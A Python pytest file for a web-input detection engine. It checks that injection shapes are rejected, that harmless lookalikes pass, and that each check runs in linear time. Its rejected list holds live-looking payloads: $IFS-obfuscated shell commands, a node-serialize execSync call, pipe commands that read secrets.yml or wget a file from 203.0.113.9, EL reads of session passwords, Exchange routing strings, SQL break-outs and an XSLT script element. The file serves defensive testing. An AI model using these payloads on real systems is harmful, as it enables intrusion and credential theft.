"""Unit: the shapes of the fresh46 first contact.

A command word glued from parameter expansions or with ``$IFS`` for blanks (``shell_expansion``); a node-serialize
function marker (``node_serialize``); a command line ending in a pipe, which Perl's two-argument ``open`` runs
(``pipe_open``); JSP EL reading the request's implicit objects (``el_scopes``); an Exchange backend-routing value
(``exchange_routing``); an ``UPDATE … SET`` continuation, a quoted tautology word and a quote-and-``>`` probe
(``sqli_breakouts``); an XSLT ``msxsl:script`` element (``xslt``). Values are our own; none comes from a corpus."""

from __future__ import annotations

import time

import pytest

from bastion.detection import Context, Engine
from bastion.detection.el_scopes import el_scope
from bastion.detection.exchange_routing import exchange_route
from bastion.detection.node_serialize import serialized_function
from bastion.detection.pipe_open import pipe_open
from bastion.detection.shell_expansion import expansion_command
from bastion.detection.sqli_breakouts import breakout
from bastion.detection.xslt import extension_call

BODY = Context("body", "comment")
CONTEXTS = [BODY, Context("header", "x-note"), Context("cookie", "pref"), Context("query", "q")]
MSXSL = 'xmlns:msxsl="urn:schemas-microsoft-com:xslt"'


@pytest.fixture(scope="module")
def engine() -> Engine:
    return Engine()


REJECTED = {
    "command glued from expansions": [
        "x&&A=${HOME%%/*}&&$A$B$IFS-c$IFS'uname'",
        "$Q$R$IFS/tmp/run.sh",
        "cat$IFS/etc/hostname",
        "1;${X}${Y} -n 2",
        "ok|$C$D${IFS}http://203.0.113.9/s",
    ],
    "node-serialize function": [
        '{"user":"_$$ND_FUNC$$_function(){require(\'child_process\').execSync(\'id\')}()"}',
        "_$$ND_FUNC$$_function (){ return process.pid }()",
        '{"c":"_$$ND_CC$$_class X {}"}',
        '{"f":"_$$ND_FUNC$$_(() => 1)()"}',
    ],
    "command line ending in a pipe": [
        "cat ../../conf/secrets.yml|",
        "cp ../app/settings.py out.txt|+more",
        "wget http://203.0.113.9/x -O /tmp/x|",
        "uname -a |",
    ],
    "el implicit object": [
        '${cookie["SESSION"].value}',
        "#{sessionScope.user.password}",
        "${applicationScope}",
        "${header['Authorization']}",
        "name ${pageContext.request.serverName}",
    ],
    "exchange backend routing": [
        "mail02.corp.example/EWS/Exchange.asmx?a=~1942062522",
        "localhost/ecp/default.flt?~3",
        "X-BEResource=srv1:444/autodiscover/autodiscover.xml?a=~1942062522;",
        "10.1.2.3/mapi/emsmdb?a=~1941997017",
    ],
    "sql break-out": [
        "',is_admin='1",
        "\", role = \"owner",
        "'or'",
        "' OR '",
        "'\">",
        "\"'/>",
    ],
    "xslt script element": [
        f"<xsl:stylesheet version=\"1.0\" xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\" {MSXSL} "
        "xmlns:u=\"urn:u\"><msxsl:script language=\"C#\" implements-prefix=\"u\">public string r(){return \"\";}"
        "</msxsl:script></xsl:stylesheet>",
        "<xsl:stylesheet xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\" "
        "xmlns:lx=\"http://xml.apache.org/xslt\"><lx:script lang=\"javascript\">x()</lx:script></xsl:stylesheet>",
    ],
}

PASSED = {
    "shell text and prices": [
        "the $IFS variable splits words",
        'set IFS=":" before the loop',
        "base=${file%.txt}",
        "cost: $5$6 total",
        "echo $HOME and $PATH",
        "$A$1:$B$5",
        "Use ${name} and ${value} in the template",
    ],
    "node and serialization prose": [
        "node-serialize uses a _$$ND_FUNC$$_ prefix",
        '{"type":"function","body":"return 1"}',
    ],
    "pipes in text and tables": [
        "| name | size |",
        "cat | dog |",
        "cat notes.txt | grep todo",
        "id|",
        "a|b|c",
        "echo the pipe character is |",
    ],
    "template fields": [
        "${header.title}",
        "${param.name}",
        "Hello ${user.firstName}",
        "#{order.total}",
        "cookie jar",
    ],
    "urls and paths": [
        "https://mail.example.com/owa/?ae=Item&a=Open",
        "~/projects/ews/notes.txt",
        "https://example.com/docs/api/v2?page=~3",
        "srv1/ews/exchange.asmx",
    ],
    "quotes and sql in prose": [
        "'quoted', said the author='tired'",
        "'or' and 'and' are conjunctions",
        "'hello'",
        "\"yes\"",
        "'\"",
        "Select one from the list in (select a colour from the menu)",
        "select a from b",
        "Please select from (a) or (b)",
        "who's in (select few) from now on",
        "SELECT * FROM t WHERE a IN (SELECT b FROM u)",
    ],
    "xslt without script": [
        "<xsl:stylesheet xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\" "
        "xmlns:msxsl=\"urn:schemas-microsoft-com:xslt\">"
        "<xsl:template match=\"/\"><xsl:value-of select=\"msxsl:node-set($x)\"/></xsl:template></xsl:stylesheet>",
        "the msxsl:script element runs C#",
    ],
}


@pytest.mark.parametrize("value", [v for vs in REJECTED.values() for v in vs])
@pytest.mark.parametrize("ctx", CONTEXTS, ids=lambda c: c.kind)
def test_fresh46_shapes_are_rejected(engine: Engine, value: str, ctx: Context) -> None:
    assert engine.inspect(value, ctx) is not None, value


@pytest.mark.parametrize("value", [v for vs in PASSED.values() for v in vs])
@pytest.mark.parametrize("ctx", CONTEXTS, ids=lambda c: c.kind)
def test_fresh46_lookalikes_pass(engine: Engine, value: str, ctx: Context) -> None:
    assert engine.inspect(value, ctx) is None, value


def test_each_module_names_its_own_shape() -> None:
    assert expansion_command("a;$X$Y -c id") is not None
    assert expansion_command("echo $X $Y") is None
    assert serialized_function('"_$$ND_FUNC$$_function(){}()"') is not None
    assert pipe_open("ls -l /|") is not None and pipe_open("ls -l / | wc") is None
    assert el_scope("${requestScope['x']}") is not None and el_scope("${request.x}") is None
    assert exchange_route("h/ews/x.asmx?a=~123456") is not None and exchange_route("h/ews/x.asmx") is None
    assert breakout("',x='1") is not None and breakout("',x='1'") is None
    assert extension_call(f"<x {MSXSL} xmlns:xsl=\"urn:XSL/Transform\"><msxsl:script/></x>") is not None


LINEAR = [
    ("$a" * 65536, expansion_command),
    ("a$IFS" * 26215, expansion_command),
    ("&" + "$" * 131072, expansion_command),
    ("_$$ND_FUNC$$_" * 10082, serialized_function),
    ("_$$ND_FUNC$$_a" * 9362, serialized_function),
    ("cat " + "a " * 600 + "|", pipe_open),
    ("${" * 65536, el_scope),
    ("${cookie['" * 13107, el_scope),
    ("h/ews/" + "?" * 131072, exchange_route),
    ("a/ews/?a=~" * 13107, exchange_route),
    ("' ," * 43690, breakout),
    ("'" + "," * 131072, breakout),
]


@pytest.mark.parametrize(("text", "check"), LINEAR, ids=lambda x: getattr(x, "__name__", "text"))
def test_fresh46_checks_are_linear(text: str, check: object) -> None:
    start = time.process_time()
    check(text)  # type: ignore[operator]
    assert time.process_time() - start < 1.0
